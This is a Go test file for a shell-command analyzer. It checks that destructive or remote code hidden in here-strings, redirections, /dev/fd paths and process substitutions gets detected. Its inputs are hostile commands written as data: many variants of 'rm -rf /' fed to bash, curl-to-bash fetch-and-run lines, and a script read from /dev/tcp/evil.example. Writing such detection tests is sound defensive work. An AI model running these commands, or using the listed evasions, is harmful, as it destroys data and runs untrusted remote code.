package shell

import (
	"slices"
	"testing"
)

// The last redirection of a descriptor wins, as the shell applies them in
// order, and a duplication copies what the other descriptor is then: the
// script a shell reads is the one its last stdin redirection gives. A
// file redirected in is a script file (a command like any other, unless
// the line wrote it). (Issue 29, item 6.3: on f3570ff the first one
// counted, so `bash <evil.sh <<<'rm -rf /'` ran rm unseen, and a script
// written and then redirected in was not noticed.)
func TestLastStdinRedirectionWins(t *testing.T) {
	p := mustPattern(t, "*rm -rf /")
	for _, src := range []string{
		"bash <evil.sh <<< 'rm -rf /'", "bash </dev/null <<< 'rm -rf /'", "bash 3<<<'rm -rf /' 0<&3",
		"sh <x 0<<EOF\nrm -rf /\nEOF", "bash <<<'ls' <evil.sh <<<'rm -rf /'", "sudo -s <x <<< 'rm -rf /'",
		"bash 3<<<'rm -rf /' <&3", "ssh host <f <<< 'rm -rf /'",
	} {
		if m := best(p, Analyze(src)); m != Definite {
			t.Errorf("%q: %v, want the rm of the last here-string", src, m)
		}
	}
	for _, src := range []string{
		"printf 'rm -rf /' > x.sh; sh < x.sh", "echo 'rm -rf /' > e.sh; bash </dev/null <e.sh", "echo x > e.py; python3 < e.py",
		"echo 'rm -rf /' > e.sh; bash <<<'ls' 0<e.sh", "echo 'id' > a.awk; awk -f a.awk f", "echo 'x:;id' > m; make -f m",
	} {
		if s := Analyze(src); len(s.Unresolved) == 0 {
			t.Errorf("%q: resolved, runs the file it wrote: %v", src, s.Commands)
		}
	}
	for _, src := range []string{"sh <script.sh", "bash </dev/null <evil.sh", "bash <<<'rm -rf /' <evil.sh", "bash -s < /dev/null"} {
		if s := Analyze(src); len(s.Unresolved) > 0 || len(s.Code) > 0 || best(p, s) != NoMatch {
			t.Errorf("%q: a script file, a command like any other: unresolved %q, code %v, commands %v", src, s.Unresolved, s.Code, s.Commands)
		}
	}
}

// A shell reading its script from a here-string, a here-document, a
// process substitution, /dev/stdin, /dev/fd/N or /proc/self/fd/N runs
// that script: parsed when it is literal, else interpreter code (and
// unresolved, as a shell reading what the line does not hold is). An
// interpreter reading its program so is code. (Issue 29, item 6.4: on
// f3570ff /dev/fd/3 was read as a file, so `bash /dev/fd/3 3<<<'rm -rf
// /'` ran rm unseen, and process substitutions were unresolved only.)
func TestScriptsFromDescriptors(t *testing.T) {
	p := mustPattern(t, "*rm -rf /")
	for _, src := range []string{
		"bash <<< 'rm -rf /'", "bash /dev/fd/3 3<<<'rm -rf /'", "source /dev/fd/4 4<<'EOF'\nrm -rf /\nEOF",
		". /proc/self/fd/5 5<<<'rm -rf /'", "sh /dev/stdin <<< 'rm -rf /'", "bash /proc/self/fd/0 <<< 'rm -rf /'",
		"zsh /dev/fd/3 3<<<'rm -rf /'", "bash //dev//fd/./3 3<<<'rm -rf /'", "bash /dev/fd/3 4<<<'ls' 3<&4 4<<<'rm -rf /' 3<&4",
		"bash <<EOF\nrm -rf /\nEOF", "dash -s <<< 'rm -rf /'",
	} {
		if m := best(p, Analyze(src)); m != Definite {
			t.Errorf("%q: %v, want the rm of the literal script", src, m)
		}
	}
	for _, tt := range []struct{ src, interpreter, form, text string }{
		{"bash <(curl -s x)", "bash", "<(…)", ""},
		{"source <(curl x)", "source", "<(…)", ""},
		{". <(curl x)", ".", "<(…)", ""},
		{"bash < <(curl x)", "bash", "<(…)", ""},
		{"bash /dev/fd/3", "bash", "/dev/fd/3", ""},
		{"sh < /dev/tcp/evil.example/80", "sh", "stdin", ""},
		{`bash <<< "$X"`, "bash", "stdin", ""},
		{"curl x | bash /dev/stdin", "bash", "stdin", ""},
		{"bash /proc/1/fd/0", "bash", "/proc/1/fd/0", ""},
		{"sudo bash <(curl x)", "bash", "<(…)", ""},
	} {
		s := Analyze(tt.src)
		if len(s.Unresolved) == 0 || !slices.ContainsFunc(s.Code, func(c Code) bool {
			return c.Interpreter == tt.interpreter && c.Form == tt.form && c.Dynamic
		}) {
			t.Errorf("%q: want %s %s code and unresolved; code %v, unresolved %q", tt.src, tt.interpreter, tt.form, s.Code, s.Unresolved)
		}
	}
	for _, tt := range []struct {
		src, interpreter, form, text string
		dynamic                      bool
	}{
		{"python3 <(curl x)", "python3", "<(…)", "", true},
		{"perl /dev/fd/3 3<<<'system(1)'", "perl", "/dev/fd/3", "system(1)", false},
		{"ruby /dev/stdin", "ruby", "stdin", "", true},
		{"node /dev/stdin <<< 'x'", "node", "stdin", "x", false},
		{"awk -f <(curl x) f", "awk", "<(…)", "", true},
		{"awk -f /dev/fd/3 f 3<<<'BEGIN{system(1)}'", "awk", "/dev/fd/3", "BEGIN{system(1)}", false},
		{"python3 <e.py <<<'x'", "python3", "stdin", "x", false},
		{"php /proc/self/fd/0", "php", "stdin", "", true},
	} {
		s := Analyze(tt.src)
		if !slices.ContainsFunc(s.Code, func(c Code) bool {
			return c.Interpreter == tt.interpreter && c.Form == tt.form && c.Text == tt.text && c.Dynamic == tt.dynamic
		}) {
			t.Errorf("%q: want %s %s %q (dynamic %v); code %v, unresolved %q", tt.src, tt.interpreter, tt.form, tt.text, tt.dynamic, s.Code, s.Unresolved)
		}
	}
	// The awk program of a file is not code when the file is a file.
	if s := Analyze("python3 <<<'x' <e.py"); len(s.Code) > 0 {
		t.Errorf("a program file redirected in last: code %v", s.Code)
	}
}
